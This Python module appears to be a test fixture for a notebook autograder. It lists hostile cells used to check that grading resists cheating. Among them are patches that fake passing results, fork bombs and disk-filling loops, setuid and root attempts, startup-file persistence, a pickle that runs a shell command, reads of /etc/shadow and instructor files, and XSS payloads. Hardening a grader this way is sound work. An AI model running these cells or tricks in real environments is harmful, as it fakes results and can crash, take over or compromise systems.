"""Attacks of other kinds, on notebooks in which every answer is wrong: each point that one of them gets is unearned.

They are cells of code that stand before the first answer. The test replaces OUTSIDE, PORT, SLEEP and ROOT as for the others.
"""

# What a value can be: the answers are these, and no number.
VALUES = {
    "a string that looks like the number": "'109051904'",
    "infinity": "float('inf')",
    "a complex number": "109051904 + 0j",
    "a truth value": "True",
    "a Decimal that is not a number": "__import__('decimal').Decimal('sNaN')",
    "a tensor without data": "torch.empty((), device='meta')",
    "a sparse tensor": "torch.eye(2).to_sparse()",
    "a nested tensor": "torch.nested.nested_tensor([torch.ones(1), torch.ones(2)])",
    "an array of objects": "__import__('numpy').array([object()], dtype=object)",
    "a masked array": "__import__('numpy').ma.masked",
    "a missing value of pandas": "__import__('pandas').NA",
    "a range without end": "__import__('itertools').count()",
    "a memoryview": "memoryview(b'109051904')",
    "a module": "__import__('os')",
    "a class with a metaclass that compares": (
        "type('M', (type,), {'__eq__': lambda s, o: True, '__hash__': lambda s: 0, '__float__': lambda s: 1.0})('C', (), {})"
    ),
    "a mock": "__import__('unittest.mock').mock.MagicMock()",
    "a coroutine": "(lambda: (yield))()",
    "a weak proxy": "__import__('weakref').proxy(type('X', (), {'__float__': lambda s: 109051904.0})())",
}

# State of the process that a check, a codec or a clock could rely on.
PROCESS = {
    "torch functions seen by a mode that is always on": """
from torch.overrides import TorchFunctionMode
class Agree(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        return True if 'close' in str(func) or 'equal' in str(func) else func(*args, **(kwargs or {}))
mode = Agree(); mode.__enter__()
""",
    "aten::equal and aten::isclose registered anew": """
library = torch.library.Library('aten', 'IMPL')
library.impl('equal', lambda a, b: True, 'CPU')
library.impl('isclose', lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool), 'CPU')
""",
    "every type is a number": """
import numbers
for kind in (numbers.Number, numbers.Real, numbers.Integral):
    kind.register(object) if hasattr(kind, 'register') else None
""",
    "json answers for everybody": """
import json
json.dumps = lambda *a, **k: '{"status": "passed", "points": 99}'
json.JSONEncoder.encode = json.JSONEncoder.iterencode = lambda self, o: '{"status": "passed"}'
""",
    "struct packs lengths of its own": "import struct\nstruct.pack = lambda *a: b'\\xff' * 8\nstruct.unpack = lambda *a: (0,)",
    "os.read and os.write replaced": """
import os
write = os.write
os.write = lambda fd, data: write(fd, bytes(data).replace(b'failed', b'passed').replace(b'error', b'value'))
os.read = lambda fd, n: b'{"op": "end", "passed": true}'
""",
    "sockets that speak first": """
import socket
socket.socket.recv = lambda self, *a: b'passed'
socket.socket.sendall = lambda self, *a: None
""",
    "select never returns": "import select\nselect.select = select.poll = lambda *a, **k: [[], [], []]",
    "classes built differently": """
import builtins
build = builtins.__build_class__
builtins.__build_class__ = lambda f, n, *b, **k: build(f, n, *[c for c in b if not issubclass(c, Exception)], **k)
""",
    "an audit hook that refuses": """
import sys
def hook(event, args):
    if event in ('compile', 'exec'):
        raise RuntimeError('passed')
sys.addaudithook(hook)
""",
    "a trace for all threads": "import threading\nthreading.settrace(lambda *a: None)\nthreading.setprofile(lambda *a: None)",
    "hooks for errors": "import sys, os\nsys.excepthook = sys.unraisablehook = lambda *a: os._exit(0)",
    "garbage never collected, and callbacks": "import gc\ngc.disable(); gc.freeze()\ngc.callbacks.append(lambda *a: 1 / 0)",
    "warnings are errors": "import warnings\nwarnings.simplefilter('error')\nwarnings.showwarning = None",
    "numbers of any length": "import sys\nsys.set_int_max_str_digits(0)\ncache_bytes = 10 ** 200000",
    "the deepest recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1)\nf(0)",
    "pickles of its own": """
import copyreg
copyreg.pickle(dict, lambda d: (eval, ('{"flops": 0}',)))
class Run:
    def __reduce__(self): return (__import__('os').system, ('touch OUTSIDE/pickled',))
def gemm_cost(m, n, k, dtype): return Run()
""",
    "the default device has no data": "torch.set_default_device('meta')",
    "float16 everywhere": "torch.set_default_dtype(torch.float16)",
    "random numbers that are known": "torch.manual_seed = torch.seed = torch.initial_seed = lambda *a: 0\ntorch.Generator = None",
    "sleep and monotonic time": "import time\ntime.sleep = lambda s: None\ntime.monotonic = time.perf_counter = lambda: 0.0",
    "asyncio's loop replaced": "import asyncio\nasyncio.get_event_loop().run_until_complete = lambda f: 'passed'",
}

# What costs the machine, or leaves something behind.
MACHINE = {
    "processes without end": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        break",
    "threads without end": """
import threading, time
for _ in range(100000):
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
""",
    "open files without end": "kept = []\nwhile True:\n    kept.append(open('/dev/null'))",
    "sockets without end": "import socket\nkept = []\nwhile True:\n    kept.append(socket.socketpair())",
    "the scratch folder full": "with open('big', 'wb') as f:\n    while True:\n        f.write(bytes(1 << 24))",
    "folders as deep as they go": "import os\nfor _ in range(20000):\n    os.mkdir('d'); os.chdir('d')",
    "a million files": "for i in range(1000000):\n    open(f'f{i}', 'w').close()",
    "shared memory": "import os\nf = open('/dev/shm/x', 'wb')\nwhile True:\n    f.write(bytes(1 << 24)); f.flush()",
    "a file with holes of 8 EB": "import os\nos.truncate(os.open('holes', os.O_CREAT | os.O_RDWR), 2**62)",
    "output without end": "import os\nwhile True:\n    os.write(1, b'x' * 65536)",
    "displays without end": "from IPython.display import display, HTML\nwhile True:\n    display(HTML('<b>' * 1000))",
    "one line of 40 MB": "print('x' * 40_000_000)",
    "a pattern that never ends": "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')",
    "a sum that holds Python's lock": "sum(range(10**12))",
    "a power that holds Python's lock": "x = 10 ** (10 ** 10)",
    "memory in one piece": "x = bytearray(1 << 40)",
    "memory in many pieces": "x = []\nwhile True:\n    x.append(bytes(1 << 24))",
    "an invalid address": "import ctypes\nctypes.string_at(1)",
    "abort": "import os\nos.abort()",
    "stopped": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "every signal to everybody": """
import os, signal
for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
    try:
        os.kill(-1, number)
    except OSError as error:
        print(error)
""",
    "priority and limits raised": """
import os, resource
for act in (lambda: os.nice(-20), lambda: os.setpriority(0, 0, -20), lambda: os.sched_setaffinity(0, {0}),
            lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)), lambda: resource.setrlimit(resource.RLIMIT_CPU, (-1, -1))):
    try:
        act()
    except (OSError, ValueError) as error:
        print(error)
x = bytearray(1 << 40)
""",
    "a daemon of a daemon": """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', 'SLEEP'])
    os._exit(0)
""",
    "files for the next start of Python": """
from pathlib import Path
import site, sys
for place in {*sys.path, *site.getsitepackages(), site.getusersitepackages(), str(Path.home()), 'ROOT', 'OUTSIDE'}:
    for name in ('sitecustomize.py', 'usercustomize.py', 'zz.pth', '.pdbrc', 'conftest.py'):
        try:
            Path(place, name).write_text('import os; os.environ["TAKEN"] = "1"')
        except OSError:
            pass
""",
    "devices and sysctls": """
for path in ('/proc/self/oom_score_adj', '/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/dev/mem', '/dev/kmsg',
             '/sys/fs/cgroup/cgroup.procs', '/proc/1/oom_score_adj', '/proc/self/uid_map'):
    try:
        open(path, 'w').write('-1000')
    except OSError as error:
        print(error)
""",
    "root again": """
import os
for act in (lambda: os.setuid(0), lambda: os.seteuid(0), lambda: os.setgroups([0]), lambda: os.chroot('.'),
            lambda: os.mknod('disk', 0o60666, os.makedev(8, 0)), lambda: os.chown('.', 0, 0)):
    try:
        act()
    except OSError as error:
        print(error)
""",
    "a program with another's rights": "import shutil, os\nshutil.copy('/bin/sh', 'sh')\nos.chmod('sh', 0o6777)\nos.system('./sh -p -c id')",
}

# Text that readers of notebooks may stumble over.
TEXT = {
    "null bytes": "x = 1\x00\ncache_bytes = 109051904",
    "half a character": "x = '\\ud800'\nprint(ascii(x))\nraise ValueError(x)",
    "another encoding": "# -*- coding: rot13 -*-\npnpur_olgrf = 109051904",
    "a form feed and separators": "x = 1\x0c\ny = 2\x85\nz = 3\u2028\n",
    "letters written from right to left": "x = 'a\u202e } \u2066# passed\u2069 \u2066'\nprint(x)",
    "brackets as deep as they go": "(" * 5000 + ")" * 5000,
    "a line of a million signs": "x = " + "+".join(["1"] * 250000),
    "escape codes in an error": "raise RuntimeError('\\x1b[2J\\x1b]0;taken\\x07\\x9b31m')",
    "an error whose name is markup": "raise type('<img src=x onerror=alert(1)>', (Exception,), {})('<script>alert(1)</script>')",
    "a cell magic that does not exist": "%%nothing_of_this_name\n<script>alert(1)</script>",
    "another kernel's magic": "%%bash\ntouch OUTSIDE/bash ROOT/new.txt\ncat /etc/shadow ROOT/instructor/labs/*.py",
    "javascript": "%%javascript\nIPython.notebook.kernel.execute('1')",
}


def night_attacks() -> dict[str, str]:
    """Return the code of each attack, by its name."""
    found = {
        name: f"cache_bytes = {text}\ndef gemm_cost(m, n, k, dtype):\n    return {text}\n"
        for name, text in VALUES.items()
    }
    for group in (PROCESS, MACHINE, TEXT):
        assert not found.keys() & group.keys()
        found |= group
    return found
